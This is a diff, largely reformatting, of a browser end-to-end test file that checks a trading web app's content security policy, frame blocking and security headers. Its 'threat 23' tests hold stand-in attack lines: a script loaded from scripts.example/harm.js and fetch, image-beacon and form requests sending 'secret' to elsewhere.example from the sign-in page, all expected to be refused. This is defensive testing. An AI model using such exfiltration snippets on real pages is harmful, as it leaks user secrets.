@@ -6,7 +6,12 @@ import { createOp } from '@/domain/ledger/revision-fields';
 import { createSpecimen } from '../../../tools/dev/seed/specimen';
 import { getPort, loopback } from '../../../tools/ports';
 import { expect, getConsoleErrors, getUncaughtErrors, test } from '../../support/e2e/fixtures';
-import { createAdministrator, createClient, createTrader, type Person } from '../../support/e2e/people';
+import {
+  createAdministrator,
+  createClient,
+  createTrader,
+  type Person,
+} from '../../support/e2e/people';
 import { signInAs } from '../../support/e2e/sign-in';
 
 let client: Person;
@@ -25,13 +30,18 @@ async function watchRefusals(page: Page): Promise<() => Promise<string[]>> {
   await page.addInitScript(() => {
     const refusals: string[] = [];
     Object.assign(globalThis, { refusals });
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
-      refusals.push([effectiveDirective, blockedURI, sample].join(' ').trim());
-    });
+    document.addEventListener(
+      'securitypolicyviolation',
+      ({ effectiveDirective, blockedURI, sample }) => {
+        refusals.push([effectiveDirective, blockedURI, sample].join(' ').trim());
+      },
+    );
   });
   return async () => [
     ...(await page.evaluate(() => (globalThis as unknown as { refusals: string[] }).refusals)), // defined by the script above
-    ...getConsoleErrors(page).filter((line) => /content security policy|permissions policy|x-frame-options/i.test(line)),
+    ...getConsoleErrors(page).filter((line) =>
+      /content security policy|permissions policy|x-frame-options/i.test(line),
+    ),
   ];
 }
 
@@ -42,12 +52,22 @@ interface Screen {
   act?: (page: Page) => Promise<void>;
 }
 
-const press = (page: Page, name: string | RegExp) => page.getByRole('button', { name }).first().click();
-const photo = '<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900"><rect width="900" height="900" fill="#0f5a40"/></svg>';
+const press = (page: Page, name: string | RegExp) =>
+  page.getByRole('button', { name }).first().click();
+const photo =
+  '<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900"><rect width="900" height="900" fill="#0f5a40"/></svg>';
 
 const clientScreens: Screen[] = [
-  { path: '/user/dashboard', ready: 'Lowest', act: (page) => page.locator('canvas').first().waitFor() },
-  { path: '/user/deposit', ready: 'I have sent', act: (page) => page.getByRole('img', { name: /QR/ }).waitFor() },
+  {
+    path: '/user/dashboard',
+    ready: 'Lowest',
+    act: (page) => page.locator('canvas').first().waitFor(),
+  },
+  {
+    path: '/user/deposit',
+    ready: 'I have sent',
+    act: (page) => page.getByRole('img', { name: /QR/ }).waitFor(),
+  },
   { path: '/user/withdrawal', ready: 'We activate your account' },
   { path: '/user/statement', ready: 'Matches to the cent' },
   { path: '/user/assets', ready: 'Bitcoin Cash' },
@@ -63,7 +83,11 @@ const clientScreens: Screen[] = [
         .first()
         .setInputFiles({ name: 'me.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(photo) });
       const fresh = page.getByRole('img', { name: 'Your new photo, not saved yet' });
-      await expect.poll(() => fresh.evaluate((one) => one instanceof HTMLImageElement && one.naturalWidth > 0)).toBe(true);
+      await expect
+        .poll(() =>
+          fresh.evaluate((one) => one instanceof HTMLImageElement && one.naturalWidth > 0),
+        )
+        .toBe(true);
     },
   },
 ];
@@ -93,7 +117,11 @@ const deskScreens: Screen[] = [
 
 const publicScreens: Screen[] = [
   { path: '/', ready: 'Every cent' },
-  { path: '/education/learn-forex/pips-and-lots', ready: 'Check yourself', act: (page) => page.mouse.move(200, 200) },
+  {
+    path: '/education/learn-forex/pips-and-lots',
+    ready: 'Check yourself',
+    act: (page) => page.mouse.move(200, 200),
+  },
   { path: '/market/cryptocurrency', ready: 'Prices now' },
   { path: '/company/contact', ready: 'Send message' },
   { path: '/verify', ready: 'Check the book', act: (page) => page.mouse.move(200, 200) },
@@ -102,7 +130,11 @@ const publicScreens: Screen[] = [
   { path: '/no-such-page', ready: 'Glassbook' },
 ];
 
-async function expectNoRefusals(page: Page, getRefusals: () => Promise<string[]>, screens: Screen[]): Promise<void> {
+async function expectNoRefusals(
+  page: Page,
+  getRefusals: () => Promise<string[]>,
+  screens: Screen[],
+): Promise<void> {
   for (const { path, ready, act } of screens) {
     await page.goto(path);
     await page.getByText(ready, { exact: false }).filter({ visible: true }).first().waitFor();
@@ -123,7 +155,9 @@ test.describe('threat 23: the policy of the pages', { tag: '@full' }, () => {
     await expectNoRefusals(page, getRefusals, clientScreens);
   });
 
-  test('allows all that the desk does: queues, a PDF that is drawn in its worker', async ({ page }) => {
+  test('allows all that the desk does: queues, a PDF that is drawn in its worker', async ({
+    page,
+  }) => {
     const getRefusals = await watchRefusals(page);
     await signInAs(page, administrator, '/admin/dashboard');
     await expectNoRefusals(page, getRefusals, deskScreens);
@@ -147,13 +181,25 @@ test.describe('threat 23: the policy of the pages', { tag: '@full' }, () => {
         // Later, because a tool of the browser's may evaluate what it likes.
         setTimeout(() => new Function(run)());
       });
-      await expect.poll(getRefusals).toContainEqual(expect.stringContaining('https://scripts.example/harm.js'));
+      await expect
+        .poll(getRefusals)
+        .toContainEqual(expect.stringContaining('https://scripts.example/harm.js'));
       // Each is reported by itself, in no certain order.
-      for (const kind of ['script-src-attr inline', 'script-src-elem inline', 'script-src eval', 'base-uri'])
+      for (const kind of [
+        'script-src-attr inline',
+        'script-src-elem inline',
+        'script-src eval',
+        'base-uri',
+      ])
         await expect.poll(async () => (await getRefusals()).join()).toContain(kind);
       // The refused `eval` is an error that nothing in the page handles.
       await expect.poll(() => getUncaughtErrors(page).splice(0).length).toBe(1);
-      expect(await page.evaluate(() => ['harm' in globalThis, document.baseURI.startsWith(location.origin)])).toEqual([false, true]);
+      expect(
+        await page.evaluate(() => [
+          'harm' in globalThis,
+          document.baseURI.startsWith(location.origin),
+        ]),
+      ).toEqual([false, true]);
     });
   }
 
@@ -162,7 +208,9 @@ test.describe('threat 23: the policy of the pages', { tag: '@full' }, () => {
     await page.goto('/signin');
     await page.getByText('Forgot your password?').waitFor();
     await page.evaluate(async () => {
-      await fetch('https://elsewhere.example/', { method: 'POST', body: 'secret' }).catch(() => undefined);
+      await fetch('https://elsewhere.example/', { method: 'POST', body: 'secret' }).catch(
+        () => undefined,
+      );
       new Image().src = 'https://elsewhere.example/?secret';
       const form = document.createElement('form');
       form.action = 'https://elsewhere.example/';
@@ -170,7 +218,9 @@ test.describe('threat 23: the policy of the pages', { tag: '@full' }, () => {
       form.submit();
     });
     for (const directive of ['connect-src', 'img-src', 'form-action'])
-      await expect.poll(async () => (await getRefusals()).join()).toContain(`${directive} https://elsewhere.example/`);
+      await expect
+        .poll(async () => (await getRefusals()).join())
+        .toContain(`${directive} https://elsewhere.example/`);
     expect(page.url()).toBe(`${site}/signin`);
   });
 });
@@ -181,14 +231,18 @@ test.describe('threat 23: the app in a frame of somebody else’s page', { tag: 
     const page = ['/', '/signin', '/user/dashboard', '/favicon.svg', '/chat']
       .map((path) => `<iframe src="${site}${path}"></iframe>`)
       .join('');
-    other = createServer((_, response) => response.setHeader('content-type', 'text/html').end(page));
+    other = createServer((_, response) =>
+      response.setHeader('content-type', 'text/html').end(page),
+    );
     await new Promise<void>((resolve) => other.listen(0, loopback, resolve));
   });
   test.afterAll(() => other.close());
 
   test('is not shown', async ({ page }) => {
     await page.goto(`http://${loopback}:${getPort(other)}/`);
-    await expect.poll(() => getConsoleErrors(page).filter((line) => line.includes('frame-ancestors')).length).toBe(5);
+    await expect
+      .poll(() => getConsoleErrors(page).filter((line) => line.includes('frame-ancestors')).length)
+      .toBe(5);
     expect(
       page
         .frames()
@@ -198,18 +252,23 @@ test.describe('threat 23: the app in a frame of somebody else’s page', { tag: 
   });
 });
 
-test('every response has the security headers, also of a missing file', { tag: '@full' }, async ({ site }) => {
+test('every response has the security headers, also of a missing file', { tag: '@full' }, async ({
+  site,
+}) => {
   for (const path of ['/', '/user/dashboard', '/favicon.svg', '/assets/none.js']) {
     const { headers } = await fetch(`${site}${path}`);
-    const found = ['strict-transport-security', 'x-content-type-options', 'referrer-policy', 'permissions-policy'].filter((name) =>
-      headers.has(name),
-    );
-    expect([path, found.length, headers.get('cross-origin-opener-policy'), headers.get('x-frame-options')]).toEqual([
+    const found = [
+      'strict-transport-security',
+      'x-content-type-options',
+      'referrer-policy',
+      'permissions-policy',
+    ].filter((name) => headers.has(name));
+    expect([
       path,
-      4,
-      'same-origin',
-      'DENY',
-    ]);
+      found.length,
+      headers.get('cross-origin-opener-policy'),
+      headers.get('x-frame-options'),
+    ]).toEqual([path, 4, 'same-origin', 'DENY']);
     expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
     expect(headers.get('content-security-policy')).not.toMatch(/script-src[^;]*unsafe/);
   }
